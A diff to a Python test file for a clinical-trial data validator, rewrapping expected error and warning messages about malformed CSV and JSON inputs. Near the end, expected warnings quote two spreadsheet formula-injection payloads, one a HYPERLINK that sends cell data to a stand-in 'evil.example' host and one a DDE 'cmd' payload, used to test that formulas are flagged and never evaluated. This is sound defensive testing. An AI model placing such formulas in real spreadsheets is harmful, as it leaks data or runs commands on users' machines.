@@ -145,8 +145,10 @@ CASES = [
         ),
         1,
         [
-            "ERROR: patients.csv, row 1, column 'patient_id': required column 'patient_id' is missing",
-            "ERROR: events.csv, row 1, column 'patient_id': required column 'patient_id' is missing",
+            "ERROR: patients.csv, row 1, column 'patient_id': required column 'patient_id' is "
+            "missing",
+            "ERROR: events.csv, row 1, column 'patient_id': required column 'patient_id' is "
+            "missing",
         ],
     ),
     (
@@ -154,7 +156,8 @@ CASES = [
         lambda f: write_trial(f, events=valid_tables()["events"].assign(comment="x")),
         0,
         [
-            "WARNING: events.csv, row 1, column 'comment': column not in the data format: kept, but "
+            "WARNING: events.csv, row 1, column 'comment': column not in the data format: kept, "
+            "but "
             "not used"
         ],
     ),
@@ -178,7 +181,8 @@ CASES = [
         _raw("events", b"patient_id,day,event\nP01,0,infusion,x\nP02,0,infusion,y\n"),
         2,
         [
-            "ERROR: events.csv, row 2: every row has more fields than the header (3 names; 4 fields "
+            "ERROR: events.csv, row 2: every row has more fields than the header (3 names; 4 "
+            "fields "
             "from row 2)"
         ],
     ),
@@ -200,7 +204,8 @@ CASES = [
         _with({("patients", 0, "age"): "46,5"}),
         1,
         [
-            "ERROR: patients.csv, row 2, column 'age', value '46,5': expected a number (leave the cell "
+            "ERROR: patients.csv, row 2, column 'age', value '46,5': expected a number (leave the "
+            "cell "
             "empty if unknown); write decimals with a point, e.g. 1.5"
         ],
     ),
@@ -215,7 +220,8 @@ CASES = [
         _with({("patients", 2, "lupus_nephritis"): "perhaps"}),
         1,
         [
-            "ERROR: patients.csv, row 4, column 'lupus_nephritis', value 'perhaps': expected true or "
+            "ERROR: patients.csv, row 4, column 'lupus_nephritis', value 'perhaps': expected true "
+            "or "
             "false"
         ],
     ),
@@ -224,7 +230,8 @@ CASES = [
         _with({("events", 0, "event"): "transplant"}),
         1,
         [
-            "ERROR: events.csv, row 2, column 'event', value 'transplant': expected one of: infusion, "
+            "ERROR: events.csv, row 2, column 'event', value 'transplant': expected one of: "
+            "infusion, "
             "response, relapse, death, adverse_event"
         ],
     ),
@@ -240,11 +247,14 @@ CASES = [
         ),
         1,
         [
-            "ERROR: measurements.csv, row 2, column 'value', value 'NaN': expected a number; NaN and "
+            "ERROR: measurements.csv, row 2, column 'value', value 'NaN': expected a number; NaN "
+            "and "
             "infinity are not accepted",
-            "ERROR: measurements.csv, row 3, column 'value', value 'inf': expected a number; NaN and "
+            "ERROR: measurements.csv, row 3, column 'value', value 'inf': expected a number; NaN "
+            "and "
             "infinity are not accepted",
-            "ERROR: patients.csv, row 2, column 'age', value '-Infinity': expected a number (leave the "
+            "ERROR: patients.csv, row 2, column 'age', value '-Infinity': expected a number (leave "
+            "the "
             "cell empty if unknown); NaN and infinity are not accepted",
         ],
     ),
@@ -268,7 +278,8 @@ CASES = [
         _append("patients", [["P02", "Center A", "365", "", "", "", "", "", "", "simulated", ""]]),
         1,
         [
-            "ERROR: patients.csv, row 8, column 'patient_id', value 'P02': patient_id 'P02' appears "
+            "ERROR: patients.csv, row 8, column 'patient_id', value 'P02': patient_id 'P02' "
+            "appears "
             "twice: rows 3 and 8; patient ids must be unique"
         ],
     ),
@@ -277,7 +288,8 @@ CASES = [
         _append("measurements", [["P01", "0", "0", "sledai", "12", "simulated"]]),
         1,
         [
-            "ERROR: measurements.csv, row 63, column 'measure', value 'sledai': patient 'P01', month 0,"
+            "ERROR: measurements.csv, row 63, column 'measure', value 'sledai': patient 'P01', "
+            "month 0,"
             " measure 'sledai' appears twice: rows 2 and 63"
         ],
     ),
@@ -287,7 +299,8 @@ CASES = [
         _with({("measurements", 4, "patient_id"): "P99"}),
         1,
         [
-            "ERROR: measurements.csv, row 6, column 'patient_id', value 'P99': unknown patient: not in "
+            "ERROR: measurements.csv, row 6, column 'patient_id', value 'P99': unknown patient: "
+            "not in "
             "patients.csv"
         ],
     ),
@@ -305,7 +318,8 @@ CASES = [
         _with({("measurements", 5, "measure"): "dsdna", ("measurements", 3, "month"): "2"}),
         1,
         [
-            "ERROR: measurements.csv, row 7, column 'measure', value 'dsdna': measure code not defined "
+            "ERROR: measurements.csv, row 7, column 'measure', value 'dsdna': measure code not "
+            "defined "
             "in study.json measures",
             "ERROR: measurements.csv, row 5, column 'month', value '2': month 2 is not a visit of "
             "study.json",
@@ -317,8 +331,10 @@ CASES = [
         _append("events", [["P03", "200", "adverse_event", "Rash", "AE", "no", "simulated"]]),
         0,
         [
-            "WARNING: events.csv, row 19, column 'day', value '200': patient 'P03': death is recorded "
-            "on day 150 (row 17), and 1 event(s) are recorded after it: adverse_event Rash on day 200 "
+            "WARNING: events.csv, row 19, column 'day', value '200': patient 'P03': death is "
+            "recorded "
+            "on day 150 (row 17), and 1 event(s) are recorded after it: adverse_event Rash on day "
+            "200 "
             "(row 19)"
         ],
     ),
@@ -343,9 +359,11 @@ CASES = [
         ),
         1,
         [
-            "ERROR: measurements.csv, row 5, column 'value', value '106': outside the possible values "
+            "ERROR: measurements.csv, row 5, column 'value', value '106': outside the possible "
+            "values "
             "of 'sledai': expected between 0 and 105",
-            "ERROR: patients.csv, row 3, column 'age', value '130': expected a number between 0 and 120",
+            "ERROR: patients.csv, row 3, column 'age', value '130': expected a number between 0 "
+            "and 120",
             "ERROR: events.csv, row 2, column 'day', value '-1': expected a whole number ≥ 0",
         ],
     ),
@@ -407,7 +425,8 @@ CASES = [
         _xlsx_as_csv,
         2,
         [
-            "ERROR: events.csv: this is not a text file: it looks like an Excel workbook or other zip "
+            "ERROR: events.csv: this is not a text file: it looks like an Excel workbook or other "
+            "zip "
             "archive with the wrong extension"
         ],
     ),
@@ -465,7 +484,8 @@ CASES = [
         1,
         [
             "ERROR: study.json, key 'title', value '7': expected a text (in double quotes)",
-            "ERROR: study.json, key 'visits', value '\"monthly\"': required: expected a non-empty list",
+            "ERROR: study.json, key 'visits', value '\"monthly\"': required: expected a non-empty "
+            "list",
             "ERROR: study.json, key 'measures[0]': expected an object",
         ],
     ),
@@ -522,7 +542,8 @@ CASES = [
             "WARNING: patients.csv, row 2, column 'patient_id', value '=HYPERLINK(\"http://evil."
             'example/?leak="&A1,"Click")\': starts like a spreadsheet formula: kept and shown as '
             "text, never evaluated",
-            "WARNING: events.csv, row 18, column 'term', value '@SUM(1+1)*cmd|' /C calc'!A0': starts "
+            "WARNING: events.csv, row 18, column 'term', value '@SUM(1+1)*cmd|' /C calc'!A0': "
+            "starts "
             "like a spreadsheet formula",
         ],
     ),
